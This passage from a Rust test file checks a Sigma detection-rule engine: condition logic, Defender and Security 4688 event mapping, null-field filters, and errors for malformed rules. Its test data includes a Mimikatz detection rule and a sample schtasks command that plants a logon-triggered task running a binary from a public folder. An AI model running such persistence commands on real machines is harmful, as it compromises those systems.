    assert!(!fires(&set, &cmd("beta gamma")));
    let set = words_rule("(sel_a or sel_b) and not sel_c");
    assert!(!fires(&set, &cmd("alpha gamma")));
    // `not sel_a and sel_b` is (not a) and b, not `not (a and b)`.
    let set = words_rule("not sel_a and sel_b");
    assert!(!fires(&set, &cmd("gamma")), "not (a and b) would be true here");
    assert!(fires(&set, &cmd("beta")));
    // `not 1 of sel_*` negates the whole quantifier.
    let set = words_rule("not 1 of sel_* and filter_x");
    assert!(fires(&set, &cmd("delta")));
    assert!(!fires(&set, &cmd("delta gamma")));
    // Keywords are case-insensitive in conditions too.
    let set = words_rule("sel_a AND NOT sel_b");
    assert!(fires(&set, &cmd("alpha")));
    assert!(!fires(&set, &cmd("alpha beta")));
}

#[test]
fn defender_field_names_with_spaces_are_reached_without_them() {
    let av = "    product: windows\n    category: antivirus";
    let set = load_with(&rule_text(av, "    selection:\n        ThreatName|contains: 'Mimikatz'\n    condition: selection"), None);
    let defender = "Microsoft-Windows-Windows Defender/Operational";
    let detection =
        event(defender, 1116, &[("Threat Name", Value::from("HackTool:Win32/Mimikatz.D")), ("Path", Value::from(r"file:_C:\t\m.exe"))]);
    assert!(fires(&set, &detection));
    let other = event(defender, 1116, &[("Threat Name", Value::from("Trojan:Win32/Emotet"))]);
    assert!(!fires(&set, &other));
}

/// A Security 4688 shaped like the corpus's (Windows 10, command-line auditing on): the new
/// process as NewProcessName/NewProcessId, its creator as ProcessId/ParentProcessName.
fn security_4688() -> Event {
    let s = |v: &str| Value::from(v);
    event(
        "Security",
        4688,
        &[
            ("SubjectUserSid", s("S-1-5-21-3461203602-4096304019-2269080069-1000")),
            ("SubjectUserName", s("IEUser")),
            ("SubjectDomainName", s("MSEDGEWIN10")),
            ("SubjectLogonId", s("0x53ca2")),
            ("NewProcessId", s("0x1a2c")),
            ("NewProcessName", s(r"C:\Windows\System32\schtasks.exe")),
            ("TokenElevationType", s("%%1937")),
            ("ProcessId", s("0x2480")),
            ("CommandLine", s(r"schtasks /create /tn Updater /tr C:\Users\Public\u.exe /sc onlogon")),
            ("TargetUserSid", s("S-1-0-0")),
            ("TargetUserName", s("-")),
            ("TargetDomainName", s("-")),
            ("TargetLogonId", s("0x0")),
            ("ParentProcessName", s(r"C:\Windows\System32\cmd.exe")),
            ("MandatoryLabel", s("S-1-16-12288")),
        ],
    )
}

#[test]
fn process_creation_rules_see_security_4688_through_the_mapping() {
    let set = proc_rule(
        "    selection:\n        Image|endswith: '\\schtasks.exe'\n        CommandLine|contains: '/create'\n        ParentImage|endswith: '\\cmd.exe'\n    condition: selection",
    );
    let e = security_4688();
    let hits = set.matches(&e);
    assert_eq!(hits.len(), 1);
    assert_eq!(hits[0].mapping, taskhunt_sigma::view::Mapping::Process4688);
    // NewProcessId 0x1a2c = 6700 is the process; ProcessId 0x2480 = 9344 its parent.
    assert!(fires(&proc_rule("    selection:\n        ProcessId: 6700\n        ParentProcessId: 9344\n    condition: selection"), &e));
    assert!(!fires(&proc_rule("    selection:\n        ProcessId: '0x2480'\n    condition: selection"), &e));
    // S-1-16-12288 is the high mandatory level.
    assert!(fires(&proc_rule("    selection:\n        IntegrityLevel: High\n    condition: selection"), &e));
    // The same event under `service: security` keeps its own field names.
    let sec = "    product: windows\n    service: security";
    let raw = load_with(
        &rule_text(
            sec,
            "    selection:\n        EventID: 4688\n        ProcessId: '0x2480'\n        NewProcessName|endswith: '\\schtasks.exe'\n    condition: selection",
        ),
        None,
    );
    assert!(fires(&raw, &e));
    // Other Security events are not process creations.
    let mut other = security_4688();
    other.event_id = 4689;
    assert!(!fires(&set, &other));
}

#[test]
fn security_4688_user_is_the_account_the_new_process_runs_as() {
    let user_is = |e: &Event, user: &str, logon: &str| {
        let rule = format!("    selection:\n        User: '{user}'\n        LogonId: '{logon}'\n    condition: selection");
        fires(&proc_rule(&rule), e)
    };
    // Same account as the creator: the Target Subject is the null SID.
    assert!(user_is(&security_4688(), r"MSEDGEWIN10\IEUser", "0x53ca2"));
    // Started under another account (runas, a task's principal): the Target Subject.
    let mut runas = security_4688();
    for (n, v) in
        [("TargetUserSid", "S-1-5-21-1-2-3-1104"), ("TargetUserName", "bob"), ("TargetDomainName", "CORP"), ("TargetLogonId", "0x9f1e0")]
    {
        runas.fields = replace(&runas.fields, n, v);
    }
    assert!(user_is(&runas, r"CORP\bob", "0x9f1e0"));
    assert!(!user_is(&runas, r"MSEDGEWIN10\IEUser", "0x53ca2"));
    // SYSTEM appears in a 4688 under the computer account's name (as in the corpus's atexec
    // sample); Sysmon, and so SigmaHQ's rules, call it NT AUTHORITY\SYSTEM.
    let mut system = security_4688();
    for (n, v) in [
        ("SubjectUserSid", "S-1-5-18"),
        ("SubjectUserName", "WIN-77LTAPHIQ1R$"),
        ("SubjectDomainName", "EXAMPLE"),
        ("SubjectLogonId", "0x3e7"),
    ] {
        system.fields = replace(&system.fields, n, v);
    }
    assert!(user_is(&system, r"NT AUTHORITY\SYSTEM", "0x3e7"));
    let authority =
        proc_rule("    selection:\n        User|contains:\n            - 'AUTHORI'\n            - 'AUTORI'\n    condition: selection");
    assert!(fires(&authority, &system));
    assert!(!fires(&authority, &security_4688()));
}

fn replace(fields: &Fields, name: &str, value: &str) -> Fields {
    let mut out = Fields::new();
    for (n, v) in fields.iter() {
        let v = if n.as_str() == name { Value::from(value) } else { v.clone() };
        out.push(n, v);
    }
    out
}

#[test]
fn fields_4688_lacks_never_match_it() {
    let e = security_4688();
    for detection in [
        "    selection:\n        OriginalFileName: 'schtasks.exe'\n    condition: selection",
        "    selection:\n        Image|endswith: '\\schtasks.exe'\n        ParentCommandLine|contains: 'cmd'\n    condition: selection",
        "    selection:\n        Hashes|contains: 'SHA256='\n    condition: selection",
        "    selection:\n        OriginalFileName|exists: true\n    condition: selection",
    ] {
        assert!(!fires(&proc_rule(detection), &e), "{detection}");
    }
    // An OR of maps still matches through the map whose fields the 4688 has.
    let either = proc_rule(
        "    selection:\n        - Image|endswith: '\\schtasks.exe'\n        - OriginalFileName: 'schtasks.exe'\n    condition: selection",
    );
    assert!(fires(&either, &e));

    // SigmaHQ's `filter_*: Field: null` convention: a field the source does not record is null,
    // so the filter holds and the rule stays quiet on a 4688, as it would on a Sysmon event
    // without the field; with the field present (Sysmon 1) the rule fires.
    let null_filter = proc_rule(
        "    selection:\n        Image|endswith: '\\schtasks.exe'\n    filter_main_null:\n        OriginalFileName: null\n    condition: selection and not 1 of filter_main_*",
    );
    assert!(!fires(&null_filter, &e));
    let sysmon = proc(&[("Image", r"C:\Windows\System32\schtasks.exe"), ("OriginalFileName", "schtasks.exe")]);
    assert!(fires(&null_filter, &sysmon));
    // A value filter on a field the 4688 lacks cannot hold, so it excludes nothing: the rule
    // fires as it would in a SIEM that stores the 4688 without that field.
    let value_filter = proc_rule(
        "    selection:\n        Image|endswith: '\\schtasks.exe'\n    filter_main_ofn:\n        OriginalFileName: 'schtasks.exe'\n    condition: selection and not 1 of filter_main_*",
    );
    assert!(fires(&value_filter, &e));
    assert!(!fires(&value_filter, &sysmon));
}

#[test]
fn bad_rules_are_errors_with_file_and_line_and_the_rest_load() {
    let good = rule_text(PROC, "    selection:\n        CommandLine|contains: 'alpha'\n    condition: selection");
    // Line numbers below are counted in these texts: rule_text puts `detection:` on line 6.
    let unknown_modifier =
        rule_text(PROC, "    selection:\n        Image|endswith: x\n        CommandLine|contans: 'alpha'\n    condition: selection");
    let invalid_regex = rule_text(PROC, "    selection:\n        CommandLine|re: 'a(b'\n    condition: selection");
    let missing_identifier = rule_text(PROC, "    selection:\n        CommandLine: 'alpha'\n    condition: selection and not filter");
    // Six flags: 5^6 = 15625 spellings, over the 4096 a value may expand into.
    let windash_bomb =
        rule_text(PROC, "    selection:\n        CommandLine|windash|contains: ' -a -b -c -d -e -f'\n    condition: selection");
    let too_big = rule_text(PROC, "    selection:\n        CommandLine|re: '\\w{1000}'\n    condition: selection");
    let malformed = "title: broken\nlogsource:\n    category: process_creation\ndetection:\n    selection:\n        Image: 'x\n    condition: selection\n";
    let bad_indent = "title: broken\nlogsource:\n    category: process_creation\ndetection:\n    selection:\n        Image: x\n      CommandLine: y\n    condition: selection\n";
    let sources = [
        Source::Text { name: "good.yml", text: &good },
        Source::Text { name: "unknown_modifier.yml", text: &unknown_modifier },
        Source::Text { name: "invalid_regex.yml", text: &invalid_regex },
        Source::Text { name: "missing_identifier.yml", text: &missing_identifier },
        Source::Text { name: "too_big.yml", text: &too_big },
        Source::Text { name: "windash_bomb.yml", text: &windash_bomb },
        Source::Text { name: "malformed.yml", text: malformed },
        Source::Text { name: "bad_indent.yml", text: bad_indent },
    ];
    let set = RuleSet::load(&sources, None);
    assert_eq!(set.rules.len(), 1, "only good.yml loads: {:?}", set.errors);
    assert!(fires(&set, &cmd("alpha")));
    let error = |name: &str| {
        let found: Vec<_> = set.errors.iter().filter(|e| e.path.to_str() == Some(name)).collect();
        assert_eq!(found.len(), 1, "{name}: {:?}", set.errors);
        found[0].clone()
    };
    let e = error("unknown_modifier.yml");
    assert_eq!(e.line, Some(9), "{e}");
    assert!(e.message.contains("contans"), "{e}");
    let e = error("invalid_regex.yml");
    assert_eq!(e.line, Some(8), "{e}");
    assert!(e.message.contains("a(b"), "{e}");
    let e = error("too_big.yml");
    assert_eq!(e.line, Some(8), "{e}");
    assert!(e.message.contains("compiles to more than"), "{e}");
    let e = error("windash_bomb.yml");
    assert_eq!(e.line, Some(8), "{e}");
    assert!(e.message.contains("15625"), "{e}");
    let e = error("missing_identifier.yml");
    assert_eq!(e.line, Some(9), "{e}");
    assert!(e.message.contains("filter"), "{e}");
    // An unterminated quote: the scalar starts on line 6 and the document ends inside it.
    let e = error("malformed.yml");
    assert!(matches!(e.line, Some(6..=8)), "{e}");
    assert!(e.message.contains("YAML"), "{e}");
    // A key indented between its parent and its siblings: line 7.
    let e = error("bad_indent.yml");
    assert_eq!(e.line, Some(7), "{e}");
    assert_eq!(e.to_string().split(':').take(2).collect::<Vec<_>>(), ["bad_indent.yml", "7"]);
}
